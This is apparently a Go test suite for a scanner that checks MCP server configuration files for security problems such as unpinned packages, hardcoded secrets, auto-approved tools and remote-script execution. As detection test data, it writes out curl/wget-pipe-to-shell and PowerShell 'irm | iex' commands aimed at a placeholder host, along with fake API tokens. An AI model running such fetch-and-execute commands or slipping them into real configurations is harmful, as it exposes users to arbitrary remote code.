package checks

import (
	"context"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mcptether/mcptether/config"
	"github.com/mcptether/mcptether/docs"
	"github.com/mcptether/mcptether/facts"
	"github.com/mcptether/mcptether/internal/fakereg"
	"github.com/mcptether/mcptether/launch"
	"github.com/mcptether/mcptether/policy"
	"github.com/mcptether/mcptether/resolve"
)

// scan runs every rule over one file's content.
func scan(t *testing.T, path, src string) []Finding {
	t.Helper()
	f := config.Parse(path, []byte(src))
	if f == nil {
		t.Fatalf("%s not recognised", path)
	}
	files := []*config.File{f}
	return Run(All, &Input{Files: files, Servers: launch.DecodeAll(files)})
}

func ids(fs []Finding, rule string) []Finding {
	var out []Finding
	for _, f := range fs {
		if f.RuleID == rule {
			out = append(out, f)
		}
	}
	return out
}

func server(cmd string, args ...string) string {
	q := func(s string) string {
		return `"` + strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), `"`, `\"`) + `"`
	}
	var qa []string
	for _, a := range args {
		qa = append(qa, q(a))
	}
	return `{"mcpServers":{"s":{"command":` + q(cmd) + `,"args":[` + strings.Join(qa, ",") + `]}}}`
}

type ruleCase struct {
	name string
	path string
	src  string
	want int // findings of the rule
	sev  Severity
}

func runCases(t *testing.T, rule *Rule, cases []ruleCase) {
	t.Helper()
	for _, c := range cases {
		path := c.path
		if path == "" {
			path = ".mcp.json"
		}
		got := ids(scan(t, path, c.src), rule.ID)
		if len(got) != c.want {
			t.Errorf("%s: %d %s findings, want %d: %+v", c.name, len(got), rule.ID, c.want, got)
			continue
		}
		for _, f := range got {
			if c.sev != 0 && f.Severity != c.sev {
				t.Errorf("%s: severity %s, want %s", c.name, f.Severity, c.sev)
			}
			if f.Pos.Line < 1 || f.Pos.Col < 1 || f.Fingerprint == "" || f.Message == "" {
				t.Errorf("%s: incomplete finding %+v", c.name, f)
			}
		}
	}
}

func TestUnpinnedPackage(t *testing.T) {
	runCases(t, UnpinnedPackage, []ruleCase{
		{name: "no version", src: server("npx", "-y", "pkg"), want: 1, sev: High},
		{name: "latest", src: server("npx", "pkg@latest"), want: 1},
		{name: "next", src: server("npx", "pkg@next"), want: 1},
		{name: "caret", src: server("npx", "pkg@^1.2.0"), want: 1},
		{name: "tilde", src: server("npx", "pkg@~1.2"), want: 1},
		{name: "gte", src: server("uvx", "pkg>=1"), want: 1},
		{name: "x range", src: server("npx", "pkg@1.x"), want: 1},
		{name: "star", src: server("npx", "pkg@*"), want: 1},
		{name: "uvx latest", src: server("uvx", "pkg@latest"), want: 1},
		{name: "go latest", src: server("go", "run", "example.com/x@latest"), want: 1},
		{name: "manifest range", path: "server.json", src: `{"name":"n","packages":[{"registryType":"npm","identifier":"p","version":"^1.0.0"}]}`, want: 1},
		{name: "manifest missing version", path: "server.json", src: `{"name":"n","packages":[{"registryType":"pypi","identifier":"p"}]}`, want: 1},
		{name: "mcpb without hash", path: "server.json", src: `{"name":"n","packages":[{"registryType":"mcpb","identifier":"https://x/r.mcpb"}]}`, want: 1},
		// hard negatives
		{name: "exact npm", src: server("npx", "-y", "pkg@1.2.3"), want: 0},
		{name: "exact prerelease", src: server("npx", "pkg@1.2.3-rc.1"), want: 0},
		{name: "exact pypi", src: server("uvx", "pkg==2025.4.7"), want: 0},
		{name: "exact uvx at", src: server("uvx", "pkg@0.4.1"), want: 0},
		{name: "exact go", src: server("go", "run", "example.com/x@v1.0.0"), want: 0},
		{name: "template", path: "server.json", src: `{"name":"n","packages":[{"registryType":"npm","identifier":"p","version":"${VERSION}"}]}`, want: 0},
		{name: "local", src: server("node", "dist/index.js"), want: 0},
		{name: "image is not a package", src: server("docker", "run", "img"), want: 0},
	})
}

func TestMutableImage(t *testing.T) {
	digest := "@sha256:" + strings.Repeat("a", 64)
	runCases(t, MutableImage, []ruleCase{
		{name: "tag", src: server("docker", "run", "-i", "mcp/git:1.0"), want: 1, sev: Medium},
		{name: "no tag", src: server("docker", "run", "mcp/git"), want: 1, sev: High},
		{name: "latest", src: server("podman", "run", "ghcr.io/o/i:latest"), want: 1, sev: High},
		{name: "manifest", path: "server.json", src: `{"name":"n","packages":[{"registryType":"oci","identifier":"ghcr.io/o/i:1.0"}]}`, want: 1, sev: Medium},
		{name: "digest", src: server("docker", "run", "mcp/git:1.0"+digest), want: 0},
		{name: "digest only", src: server("docker", "run", "mcp/git"+digest), want: 0},
		{name: "short digest is not a pin", src: server("docker", "run", "mcp/git@sha256:abc"), want: 1},
		{name: "template", path: "server.json", src: `{"name":"n","packages":[{"registryType":"oci","identifier":"ghcr.io/o/i:${VERSION}"}]}`, want: 0},
	})
}

func TestUnpinnedGitSource(t *testing.T) {
	sha := strings.Repeat("0123456789", 4)
	runCases(t, UnpinnedGitSource, []ruleCase{
		{name: "branch", src: server("uvx", "--from", "git+https://github.com/o/r@main", "x"), want: 1, sev: High},
		{name: "no ref", src: server("npx", "github:o/r"), want: 1},
		{name: "tag", src: server("npx", "git+https://github.com/o/r.git#v1.0.0"), want: 1},
		{name: "short sha", src: server("npx", "github:o/r#0123456"), want: 1},
		{name: "full sha", src: server("npx", "github:o/r#"+sha), want: 0},
		{name: "full sha uv", src: server("uvx", "--from", "git+https://github.com/o/r@"+sha, "x"), want: 0},
	})
}

func TestRemoteScript(t *testing.T) {
	runCases(t, RemoteScript, []ruleCase{
		{name: "curl pipe sh", src: server("sh", "-c", "curl -fsSL https://x.example/i.sh | sh"), want: 1, sev: Critical},
		{name: "wget pipe bash", src: server("bash", "-c", "wget -qO- https://x.example/i.sh | bash"), want: 1},
		{name: "command substitution", src: server("bash", "-c", `bash -c "$(curl -fsSL https://x.example/i.sh)"`), want: 1},
		{name: "process substitution", src: server("bash", "-c", "sh <(curl -s https://x.example/i.sh)"), want: 1},
		{name: "python", src: server("sh", "-c", "curl -s https://x.example/i.py | python3 -"), want: 1},
		{name: "powershell", src: server("powershell", "-Command", "irm https://x.example/i.ps1 | iex"), want: 1},
		{name: "whole command line", src: `{"mcpServers":{"s":{"command":"curl -s https://x.example/i.sh | bash"}}}`, want: 1},
		{name: "curl to a file", src: server("sh", "-c", "curl -o /tmp/x https://x.example/data.json && node server.js"), want: 0},
		{name: "curl piped to jq", src: server("sh", "-c", "curl -s https://x.example/a.json | jq . && npx -y p@1.0.0"), want: 0},
	})
}

func TestInsecureTransport(t *testing.T) {
	runCases(t, InsecureTransport, []ruleCase{
		{name: "http", src: `{"mcpServers":{"s":{"url":"http://mcp.example.com/mcp"}}}`, want: 1, sev: High},
		{name: "ws", path: ".cursor/mcp.json", src: `{"mcpServers":{"s":{"url":"ws://mcp.example.com/ws"}}}`, want: 1},
		{name: "windsurf", path: ".windsurf/mcp_config.json", src: `{"mcpServers":{"s":{"serverUrl":"http://10.0.0.5:8080/mcp"}}}`, want: 1},
		{name: "mcp-remote", src: server("npx", "mcp-remote@0.1.29", "http://mcp.example.com/sse"), want: 1},
		{name: "manifest remote", path: "server.json", src: `{"name":"n","remotes":[{"type":"sse","url":"http://r.example/sse"}]}`, want: 1},
		{name: "https", src: `{"mcpServers":{"s":{"url":"https://mcp.example.com/mcp"}}}`, want: 0},
		{name: "localhost", src: `{"mcpServers":{"s":{"url":"http://localhost:3000/mcp"}}}`, want: 0},
		{name: "127.0.0.1", src: `{"mcpServers":{"s":{"url":"http://127.0.0.1:3000/mcp"}}}`, want: 0},
		{name: "127.1.2.3", src: `{"mcpServers":{"s":{"url":"http://127.1.2.3/mcp"}}}`, want: 0},
		{name: "ipv6 loopback", src: `{"mcpServers":{"s":{"url":"http://[::1]:3000/mcp"}}}`, want: 0},
		{name: "dev.localhost", src: `{"mcpServers":{"s":{"url":"ws://app.localhost/ws"}}}`, want: 0},
		{name: "input reference", path: ".vscode/mcp.json", src: `{"servers":{"s":{"url":"${input:url}"}}}`, want: 0},
	})
}

func TestHardcodedSecret(t *testing.T) {
	env := func(k, v string) string {
		return `{"mcpServers":{"s":{"command":"npx","args":["p@1.0.0"],"env":{"` + k + `":"` + v + `"}}}}`
	}
	hdr := func(v string) string {
		return `{"mcpServers":{"s":{"url":"https://x.example","headers":{"Authorization":"` + v + `"}}}}`
	}
	runCases(t, HardcodedSecret, []ruleCase{
		{name: "github pat", src: env("GITHUB_TOKEN", "ghp_R8x2Vb7Kq1Zt9Lm4Nw6Pc3Hs5Jd0Fg2Ya7Ue"), want: 1, sev: High},
		{name: "github fine-grained", src: env("GH", "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWX"), want: 1},
		{name: "openai", src: env("OPENAI_API_KEY", "sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb7cDe0fGh3iJk6lMn"), want: 1},
		{name: "anthropic", src: env("ANTHROPIC_API_KEY", "sk-ant-api03-Xy7zAb3cDe6fGh9iJk2lMn5oPq8rSt1uVw4xYz7aBc0dEf3gHi6jKl9mNo2pQr5sTu8vWx1yZa4"), want: 1},
		{name: "aws key id", src: env("AWS_ACCESS_KEY_ID", "AKIAQ7LMZ3XK4RT2PQ9N"), want: 1},
		{name: "slack", src: env("SLACK_BOT_TOKEN", "xoxb-2847561930-8473625190-Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2"), want: 1},
		{name: "stripe", src: env("STRIPE", "sk_live_51Hx9QeLk2Vb8Tn4Rz7Mw3Yc6Pd1Gf0Ja5Ks"), want: 1},
		{name: "google", src: env("GOOGLE_API_KEY", "AIzaSyD7x9Kq2Lm4Np6Rt8Vw0Yz1Bc3De5Fg7Hi9J"), want: 1},
		{name: "jwt", src: env("SESSION", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"), want: 1},
		{name: "entropy under secret key", src: env("DB_PASSWORD", "q8Z!x2Lm#9Vt4Rw7Kp"), want: 1},
		{name: "bearer header", src: hdr("Bearer 9f8e7d6c5b4a39281706f5e4d3c2b1a0"), want: 1},
		{name: "arg flag", src: server("npx", "p@1.0.0", "--api-key=Zq8vN3xK7mR2pL9sT4wY6bC1dF5hJ0gA"), want: 1},
		{name: "arg after flag", src: server("npx", "p@1.0.0", "--token", "Zq8vN3xK7mR2pL9sT4wY6bC1dF5hJ0gA"), want: 1},
		{name: "url password", src: server("npx", "p@1.0.0", "postgres://app:S3cr3tPassw0rd@db.example.com/app"), want: 1},
		{name: "url query", src: `{"mcpServers":{"s":{"url":"https://x.example/mcp?api_key=Zq8vN3xK7mR2pL9sT4wY6bC1dF5hJ0gA"}}}`, want: 1},
		// hard negatives
		{name: "env reference", src: env("GITHUB_TOKEN", "${GITHUB_TOKEN}"), want: 0},
		{name: "vscode input", src: env("GITHUB_TOKEN", "${input:token}"), want: 0},
		{name: "vscode env", src: env("GITHUB_TOKEN", "${env:GITHUB_TOKEN}"), want: 0},
		{name: "opencode env", src: env("GITHUB_TOKEN", "{env:GITHUB_TOKEN}"), want: 0},
		{name: "angle placeholder", src: env("API_KEY", "<your-api-key>"), want: 0},
		{name: "your key", src: env("API_KEY", "YOUR_API_KEY_HERE"), want: 0},
		{name: "xxx", src: env("API_KEY", "xxxxxxxxxxxxxxxxxxxxxxxx"), want: 0},
		{name: "changeme", src: env("PASSWORD", "changeme"), want: 0},
		{name: "placeholder github", src: env("GITHUB_TOKEN", "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"), want: 0},
		{name: "bearer reference", src: hdr("Bearer ${TOKEN}"), want: 0},
		{name: "non-secret key", src: env("LOG_LEVEL", "Zq8vN3xK7mR2pL9sT4wY6bC1dF5hJ0gA"), want: 0},
		{name: "secret-named url", src: env("TOKEN_URL", "https://auth.example.com/oauth/token"), want: 0},
		{name: "short value", src: env("API_KEY", "abc123"), want: 0},
		{name: "low entropy", src: env("API_TOKEN", "aaaaaaaabbbbbbbb"), want: 0},
		{name: "path", src: env("SECRET_FILE", "/run/secrets/db_password_file"), want: 0},
	})
}

func TestSecretIsNeverPrinted(t *testing.T) {
	secret := "ghp_R8x2Vb7Kq1Zt9Lm4Nw6Pc3Hs5Jd0Fg2Ya7Ue"
	fs := ids(scan(t, ".mcp.json", `{"mcpServers":{"s":{"command":"npx","args":["p@1.0.0"],"env":{"T":"`+secret+`"}}}}`), HardcodedSecret.ID)
	if len(fs) != 1 {
		t.Fatalf("findings = %+v", fs)
	}
	for _, s := range []string{fs[0].Message, fs[0].Subject, fs[0].Fingerprint} {
		if strings.Contains(s, secret[4:12]) {
			t.Errorf("secret leaked: %s", s)
		}
	}
}

func TestAutoApprovedTools(t *testing.T) {
	runCases(t, AutoApprovedTools, []ruleCase{
		{name: "cline", path: "cline_mcp_settings.json", src: `{"mcpServers":{"s":{"command":"npx","args":["p@1.0.0"],"autoApprove":["read","write"]}}}`, want: 1, sev: Medium},
		{name: "roo", path: ".roo/mcp.json", src: `{"mcpServers":{"s":{"command":"npx","args":["p@1.0.0"],"alwaysAllow":["x"]}}}`, want: 1},
		{name: "claude enabledMcpjsonServers", path: ".claude/settings.json", src: `{"enabledMcpjsonServers":["github","fs"]}`, want: 2, sev: Medium},
		{name: "kiro star", path: ".kiro/settings/mcp.json", src: `{"mcpServers":{"s":{"command":"npx","args":["p@1.0.0"],"autoApprove":["*"]}}}`, want: 1},
		{name: "gemini trust", path: ".gemini/settings.json", src: `{"mcpServers":{"s":{"httpUrl":"https://x","trust":true}}}`, want: 1},
		{name: "codex default", path: ".codex/config.toml", src: "[mcp_servers.s]\nurl = \"https://x\"\ndefault_tools_approval_mode = \"approve\"\n", want: 1},
		{name: "codex per tool", path: ".codex/config.toml", src: "[mcp_servers.s]\nurl = \"https://x\"\n[mcp_servers.s.tools.delete]\napproval_mode = \"approve\"\n", want: 1},
		{name: "claude enable all", path: ".claude/settings.json", src: `{"enableAllProjectMcpServers":true}`, want: 1},
		{name: "claude allow", path: ".claude/settings.local.json", src: `{"permissions":{"allow":["mcp__github__create_issue"]}}`, want: 1},
		{name: "goose auto", path: ".goose/config.yaml", src: "GOOSE_MODE: auto\nextensions: {}\n", want: 1},
		{name: "empty list", path: "cline_mcp_settings.json", src: `{"mcpServers":{"s":{"command":"npx","args":["p@1.0.0"],"autoApprove":[]}}}`, want: 0},
		{name: "trust false", path: ".gemini/settings.json", src: `{"mcpServers":{"s":{"httpUrl":"https://x","trust":false}}}`, want: 0},
		{name: "codex prompt", path: ".codex/config.toml", src: "[mcp_servers.s]\nurl = \"https://x\"\ndefault_tools_approval_mode = \"prompt\"\n", want: 0},
		{name: "claude false", path: ".claude/settings.json", src: `{"enableAllProjectMcpServers":false,"permissions":{"allow":["Bash(ls)"]}}`, want: 0},
		{name: "goose smart", path: ".goose/config.yaml", src: "GOOSE_MODE: smart_approve\nextensions: {}\n", want: 0},
	})
}

func TestConfigParseError(t *testing.T) {
	deep := strings.Repeat("(", 5000)
	runCases(t, ConfigParseError, []ruleCase{
		{name: "json", src: "{\"mcpServers\": {\"a\": }", want: 1, sev: High},
		{name: "toml", path: ".codex/config.toml", src: "[mcp_servers.a\n", want: 1, sev: High},
		{name: "valid", src: `{"mcpServers":{}}`, want: 0},
		// sh runs the first line before it meets the error on the second.
		{name: "shell syntax", src: server("sh", "-c", `npx -y evil-pkg\n(((`), want: 1, sev: High},
		{name: "shell too deep", src: server("bash", "-c", "npx -y evil-pkg; "+deep), want: 1, sev: High},
		{name: "command line too deep", src: `{"mcpServers":{"a":{"command":"npx -y evil-pkg ` + deep + `"}}}`, want: 1, sev: High},
		{name: "shell fine", src: server("sh", "-c", "cd /srv && npx -y pkg@1.0.0"), want: 0},
		{name: "host path array", path: ".mcp.json", src: `[{"id": 1}]`, want: 1, sev: High},
	})
	// Controls: a data file that shares a generic name is no config.
	if f := config.Parse("crush.json", []byte(`[{"id": 1}, {"id": 2}]`)); f != nil {
		t.Errorf("crush.json data file: %+v", f)
	}
	if f := config.Parse("ext/manifest.json", []byte(`{"manifest_version": 3, "name": "x", "background": {"service_worker": "b.js"}}`)); f != nil {
		t.Errorf("browser extension manifest: %+v", f)
	}
	fs := ids(scan(t, ".mcp.json", "{\n  \"mcpServers\": {\n    \"a\": }\n"), ConfigParseError.ID)
	if len(fs) != 1 || fs[0].Pos.Line != 3 || fs[0].Pos.Col != 10 || !strings.Contains(fs[0].Message, "invalid character") {
		t.Errorf("finding = %+v", fs)
	}
}

func TestFingerprintsSurviveLineMoves(t *testing.T) {
	a := scan(t, ".mcp.json", server("npx", "pkg"))
	b := scan(t, ".mcp.json", "\n\n\n  "+server("npx", "pkg"))
	if len(a) != 1 || len(b) != 1 || a[0].Fingerprint != b[0].Fingerprint || a[0].Pos.Line == b[0].Pos.Line {
		t.Errorf("fingerprints %q vs %q (lines %d, %d)", a[0].Fingerprint, b[0].Fingerprint, a[0].Pos.Line, b[0].Pos.Line)
	}
	two := scan(t, ".mcp.json", `{"mcpServers":{"s":{"command":"sh","args":["-c","npx pkg; npx pkg"]}}}`)
	if len(two) != 2 || two[0].Fingerprint == two[1].Fingerprint {
		t.Errorf("duplicate findings share a fingerprint: %+v", two)
	}
}

func TestRegistry(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range All {
		if seen[r.ID] {
			t.Errorf("duplicate rule %s", r.ID)
		}
		seen[r.ID] = true
		if !regexp.MustCompile(`^[a-z]+(-[a-z]+)*$`).MatchString(r.ID) || r.Summary == "" || r.Check == nil || len(r.Tags) == 0 {
			t.Errorf("rule %+v is incomplete", r)
		}
		// One file per rule, named after its id.
		if _, err := os.Stat(strings.ReplaceAll(r.ID, "-", "_") + ".go"); err != nil {
			t.Errorf("rule %s has no file %s.go", r.ID, strings.ReplaceAll(r.ID, "-", "_"))
		}
		if Lookup(r.ID) != r {
			t.Errorf("Lookup(%s) failed", r.ID)
		}
	}
	if !slices.Equal(slices.Sorted(func(yield func(string) bool) {
		for id := range seen {
			if !yield(id) {
				return
			}
		}
	}), docs.RuleIDs()) {
		t.Errorf("rules %v and docs %v differ", seen, docs.RuleIDs())
	}
}

// docsNow is the clock doc examples are judged by: now, because the fake
// registries date their fresh release from now.
var docsNow = time.Now()

func ruleIDs() []string {
	var ids []string
	for _, r := range All {
		ids = append(ids, r.ID)
	}
	return ids
}

var example = regexp.MustCompile("(?s)<!-- example: (fails|passes) (\\S+)( online)?( policy| org| base)? -->\\s*```[a-z]*\\n(.*?)```")

// examplePolicy is the policy block that follows an example marked policy.
var examplePolicy = regexp.MustCompile("(?s)^\\s*```yaml\\n(.*?)```")

// onlineFacts resolves servers against fake registries (internal/fakereg),
// for examples of rules that judge registry facts.
func onlineFacts(t *testing.T, servers []*launch.Server) *facts.Facts {
	t.Helper()
	u := fakereg.New(t).URLs()
	return resolve.New(resolve.Options{
		NPMRegistry: u["MCPTETHER_NPM_REGISTRY"], PyPIURL: u["MCPTETHER_PYPI_URL"], GitHubAPI: u["GITHUB_API_URL"],
		OSVURL: u["MCPTETHER_OSV_URL"], GoProxy: u["GOPROXY"], NuGetURL: u["MCPTETHER_NUGET_URL"],
		Retries: 1, RetryWaitMin: time.Millisecond, RetryWaitMax: time.Millisecond,
	}).Resolve(context.Background(), servers)
}

// TestDocExamples runs every example in docs/rules: a failing example must
// raise its rule, a fixed one must raise nothing at all.
func TestDocExamples(t *testing.T) {
	for _, r := range All {
		doc, ok := docs.Rule(r.ID)
		if !ok {
			t.Errorf("%s: no doc", r.ID)
			continue
		}
		for _, section := range []string{"# " + r.ID, "**Severity:** " + r.Severity.String(), "## Why it matters", "## How to fix"} {
			if !strings.Contains(doc, section) {
				t.Errorf("%s: doc lacks %q", r.ID, section)
			}
		}
		var fails, passes int
		for _, idx := range example.FindAllStringSubmatchIndex(doc, -1) {
			m := make([]string, len(idx)/2)
			for i := range m {
				if idx[2*i] >= 0 {
					m[i] = doc[idx[2*i]:idx[2*i+1]]
				}
			}
			dir := t.TempDir()
			p := filepath.Join(dir, m[2])
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, []byte(m[5]), 0o644); err != nil {
				t.Fatal(err)
			}
			// An example marked policy is followed by its policy, one
			// marked org by the org policy it is layered under.
			var org string
			if m[4] == " policy" || m[4] == " org" {
				pm := examplePolicy.FindStringSubmatch(doc[idx[1]:])
				if pm == nil {
					t.Fatalf("%s: an example marked%s needs a yaml block after it", r.ID, m[4])
				}
				target := filepath.Join(dir, ".mcptether.yml")
				if m[4] == " org" {
					target = filepath.Join(t.TempDir(), "org.yml")
					org = target
				}
				if err := os.WriteFile(target, []byte(pm[1]), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			res, err := config.Discover(config.Options{Paths: []string{dir}, Base: dir})
			if err != nil {
				t.Fatal(err)
			}
			in := &Input{Files: res.Files, Servers: launch.DecodeAll(res.Files), Now: docsNow}
			if m[4] == " base" {
				// Judged as a change to a base revision without the file.
				in.TrustedRev = "base"
				for _, f := range res.Files {
					f.Approve(nil)
				}
			}
			if m[3] != "" {
				in.Facts = onlineFacts(t, in.Servers)
			}
			if pp := filepath.Join(dir, ".mcptether.yml"); m[4] == " policy" || filepath.Base(p) == ".mcptether.yml" {
				if in.Policy, err = policy.Load(pp, ruleIDs()); err != nil {
					t.Fatalf("%s: %v", r.ID, err)
				}
			}
			if org != "" {
				op, err := policy.Load(org, ruleIDs())
				if err != nil {
					t.Fatalf("%s: %v", r.ID, err)
				}
				in.Policy = policy.Layer([]*policy.Policy{op}, in.Policy, defaultSeverity, severityRank)
			}
			got := Run(All, in)
			switch m[1] {
			case "fails":
				fails++
				if len(ids(got, r.ID)) == 0 {
					t.Errorf("%s: failing example raised no %s: %+v", r.ID, r.ID, got)
				}
			case "passes":
				passes++
				if len(got) != 0 {
					t.Errorf("%s: fixed example raised %+v", r.ID, got)
				}
			}
		}
		if fails == 0 || passes == 0 {
			t.Errorf("%s: doc needs a failing and a fixed example (has %d, %d)", r.ID, fails, passes)
		}
	}
}

// A name longer than any registry allows is reported as no package, not
// compared with the official names (a quadratic distance), and no
// message or server name carries megabytes of it.
func TestHugeValuesAreBounded(t *testing.T) {
	huge, long := strings.Repeat("a", 3<<20), strings.Repeat("b", 200<<10)
	src := `{"mcpServers":{"` + long + `":{"command":"npx","args":["-y","` + huge + `"],"env":{"API_TOKEN":"` + long + `x9Q"}}}}`
	f := config.Parse(".mcp.json", []byte(src))
	files := []*config.File{f}
	servers := launch.DecodeAll(files)
	ref := servers[0].Refs[0]
	if ref.Kind != launch.Unknown || !strings.Contains(ref.Note, "longer than any registry allows") || len(ref.Name) > 300 {
		t.Errorf("ref = %s %.80q (%d bytes)", ref.Kind, ref.Note, len(ref.Name))
	}
	for _, fd := range Run(All, &Input{Files: files, Servers: servers}) {
		if len(fd.Message) > 2100 || len(fd.Server) > 300 {
			t.Errorf("%s: message of %d bytes, server of %d", fd.RuleID, len(fd.Message), len(fd.Server))
		}
		if fd.RuleID == LookalikePackage.ID || fd.RuleID == UnpinnedPackage.ID {
			t.Errorf("judged as a package: %s", fd.RuleID)
		}
	}
}

// SARIF wants a rule's name to differ from its id (SARIF1001, compared
// without case), and names to be distinct.
func TestRuleNames(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range All {
		n := r.PascalName()
		if strings.EqualFold(n, r.ID) || seen[n] || n == "" || strings.ContainsAny(n, "- ") {
			t.Errorf("%s: name %q", r.ID, n)
		}
		seen[n] = true
	}
}

func parsed(t *testing.T, path, src string) []*config.File {
	t.Helper()
	f := config.Parse(path, []byte(src))
	if f == nil || f.Err != nil {
		t.Fatalf("%s: %+v", path, f)
	}
	return []*config.File{f}
}

func TestParseSeverity(t *testing.T) {
	for _, s := range []Severity{Critical, High, Medium, Low, Note} {
		if p, err := ParseSeverity(strings.ToUpper(s.String())); err != nil || p != s {
			t.Errorf("ParseSeverity(%s) = %v, %v", s, p, err)
		}
	}
	if _, err := ParseSeverity("urgent"); err == nil {
		t.Error("ParseSeverity accepted urgent")
	}
}

func defaultSeverity(id string) string {
	for _, r := range All {
		if r.ID == id {
			return r.Severity.String()
		}
	}
	return ""
}

func severityRank(s string) int {
	sev, _ := ParseSeverity(s)
	return int(sev)
}
